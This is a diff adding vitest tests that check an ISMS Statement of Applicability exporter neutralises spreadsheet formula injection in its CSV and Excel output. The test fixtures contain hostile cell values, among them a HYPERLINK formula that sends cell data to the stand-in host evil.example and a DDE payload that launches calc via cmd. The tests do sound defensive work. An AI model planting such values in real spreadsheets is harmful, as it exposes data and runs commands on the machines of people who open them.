@@ -1,5 +1,6 @@
 import { describe, it, expect } from 'vitest';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { loadControls } from '../../src/lib/controls.ts';
 import { computeSoa, type ImplementingDocument, type Soa, type SoaEntry } from '../../src/lib/soa.ts';
 import {
@@ -272,6 +273,22 @@ describe('soaCsv', () => {
 		expect(csv).toContain(',政策公告紀錄,"ISMS-M-001 資訊安全管理政策\nISMS-P-006 管理審查程序書",已涵蓋,');
 	});
 
+	it('neutralises cells a spreadsheet would run as formulas with a leading quote (OWASP), and no other cell', () => {
+		const hostile = computeSoa(
+			c2013,
+			soaOf([{ ...COVERED, owner: '=HYPERLINK("http://evil.example/?"&A1,"點此")', evidence: '+1+1' }, { ...EXCLUDED, justification: '-2+3', owner: '@SUM(A1:A9)' }, { ...UNCOVERED, owner: '\t=1', evidence: '\r=1' }]),
+			[doc('ISMS-P-006', '=cmd|\' /C calc\'!A0', ['A.5.1.1'])],
+		);
+		const rows = readCsv(soaCsv(hostile, HEADING).slice(1));
+		const row = (id: string) => rows.find((r) => r[0] === id)!;
+		expect(row('A.5.1.1').slice(7, 10)).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"點此")`, "'+1+1", "ISMS-P-006 =cmd|' /C calc'!A0"]);
+		expect([row('A.6.2.2')[5], row('A.6.2.2')[7]]).toEqual(["'-2+3", "'@SUM(A1:A9)"]);
+		expect([row('A.5.1.2')[7], row('A.5.1.2')[8]]).toEqual(["'\t=1", "'\r=1"]);
+		const formulaLike = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
+		expect(formulaLike).toEqual([]);
+		expect(row('A.6.2.2')[10]).toBe('—');
+	});
+
 	it('reads back as the records, multi-line cells included', () => {
 		const rows = readCsv(csv.slice(1));
 		expect(rows).toHaveLength(4 + 114);
@@ -313,6 +330,21 @@ describe('soaWorkbook', () => {
 	it('keeps the two documents of a cell on two lines', async () => {
 		const sheet = await load(await soaWorkbook(matrix, HEADING));
 		expect(sheet.getRow(5).getCell(10).value).toBe('ISMS-M-001 資訊安全管理政策\nISMS-P-006 管理審查程序書');
+	});
+
+	it('writes values that look like formulas as text cells, never as formulas', async () => {
+		const hostile = computeSoa(c2013, soaOf([{ ...COVERED, owner: '=HYPERLINK("http://evil.example/","點此")', evidence: '+1+1' }, { ...EXCLUDED, justification: '@SUM(A1)' }]), []);
+		const buffer = await soaWorkbook(hostile, HEADING);
+		const sheet = await load(buffer);
+		for (const [row, column] of [[5, 8], [5, 9], [6, 6]] as const) {
+			const cell = sheet.getRow(row).getCell(column);
+			expect(cell.type).toBe(ExcelJS.ValueType.String);
+			expect(cell.formula).toBeUndefined();
+		}
+		expect(sheet.getRow(5).getCell(8).value).toBe('=HYPERLINK("http://evil.example/","點此")');
+		const zip = await JSZip.loadAsync(buffer);
+		const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
+		expect(xml).not.toMatch(/<f[\s>]/);
 	});
 
 	it('freezes the rows above the data and filters on the header', async () => {
